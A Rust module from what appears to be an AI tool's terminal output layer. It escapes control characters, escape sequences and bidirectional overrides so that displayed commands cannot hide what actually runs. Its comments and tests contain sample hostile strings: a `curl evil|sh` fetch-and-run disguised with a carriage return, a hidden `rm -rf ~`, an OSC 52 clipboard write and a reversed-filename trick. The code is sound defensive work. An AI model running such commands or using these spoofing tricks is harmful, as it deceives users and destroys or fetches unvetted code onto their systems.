//! Text from a model, a tool or a run, made safe to print on a terminal (security review
//! #9a): a `\r` or an escape sequence in a command would show a different command than the
//! one that runs (`curl evil|sh #\r$ cargo test` shows `$ cargo test`), and escape sequences
//! in assistant text or tool output reach the terminal (OSC 52 writes the clipboard, cursor
//! moves fake lines). Every such character is printed visibly instead, as Rust writes it:
//! `\r`, `\x1b`, `\x7f`, `\u{9b}`, `\u{202e}`.
//!
//! Escaped: C0 controls (but `\t`, and `\n` where a block of lines is printed), DEL, C1
//! controls (U+0080..U+009F), the bidirectional formatting characters (U+061C, U+200E,
//! U+200F, U+202A..U+202E, U+2066..U+2069: they reorder what is shown) and the line and
//! paragraph separators U+2028, U+2029. A backslash is not escaped: `\r` on screen is either
//! a carriage return or the two characters, and neither hides anything. `--json` output does
//! not go through here: JSON escaping keeps it exact.

use std::borrow::Cow;

/// Whether `c` is printed escaped (`\n` aside, see [`escape`] and [`escape_line`]).
fn is_unsafe(c: char) -> bool {
    matches!(c,
        '\0'..='\x08' | '\x0b'..='\x1f' | '\x7f'..='\u{9f}'
        | '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

/// `text` with every unsafe character escaped; newlines and tabs kept (for blocks of lines:
/// assistant text, tool output, a shell command over several lines).
pub(crate) fn escape(text: &str) -> Cow<'_, str> {
    escaped(text, false)
}

/// [`escape`], newlines escaped too (`\n`): for what must stay on one line.
pub(crate) fn escape_line(text: &str) -> Cow<'_, str> {
    escaped(text, true)
}

fn escaped(text: &str, newlines: bool) -> Cow<'_, str> {
    let bad = |c: char| is_unsafe(c) || (newlines && c == '\n');
    if !text.chars().any(bad) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 16);
    for c in text.chars() {
        match c {
            '\r' => out.push_str("\\r"),
            '\n' if newlines => out.push_str("\\n"),
            c if bad(c) && (c as u32) < 0x80 => out.push_str(&format!("\\x{:02x}", c as u32)),
            c if bad(c) => out.push_str(&format!("\\u{{{:x}}}", c as u32)),
            c => out.push(c),
        }
    }
    Cow::Owned(out)
}

#[cfg(test)]
mod tests {
    use pretty_assertions::assert_eq;

    use super::*;

    #[test]
    fn controls_and_bidi_overrides_are_shown_escaped() {
        assert_eq!(
            escape("rm -rf ~ #\r$ ls\x1b[2K\x07\x7f\u{9b}31m\u{202e}txt.exe\u{2066}"),
            "rm -rf ~ #\\r$ ls\\x1b[2K\\x07\\x7f\\u{9b}31m\\u{202e}txt.exe\\u{2066}"
        );
        assert_eq!(escape("two\nlines\tand a tab"), "two\nlines\tand a tab");
        assert_eq!(
            escape_line("two\nlines\tand a tab"),
            "two\\nlines\tand a tab"
        );
        assert_eq!(
            escape("\x1b]52;c;ZWNobyBoaQ==\x07"),
            "\\x1b]52;c;ZWNobyBoaQ==\\x07"
        );
        // Ordinary text is not copied.
        assert!(matches!(
            escape("héllo 🦀 \\r"),
            Cow::Borrowed("héllo 🦀 \\r")
        ));
        assert!(matches!(escape_line("a\tb"), Cow::Borrowed(_)));
    }
}
